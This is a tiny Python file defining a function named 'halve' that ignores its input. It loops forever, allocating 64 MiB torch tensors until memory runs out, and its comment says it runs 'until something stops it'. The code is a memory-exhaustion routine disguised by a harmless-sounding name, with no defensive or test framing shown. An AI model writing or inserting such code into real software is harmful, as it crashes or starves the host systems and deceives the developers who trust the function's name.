import torch


def halve(x):
    hoard = []
    while True:  # 64 MiB at a time, touched, until something stops it
        hoard.append(torch.ones(1 << 24))
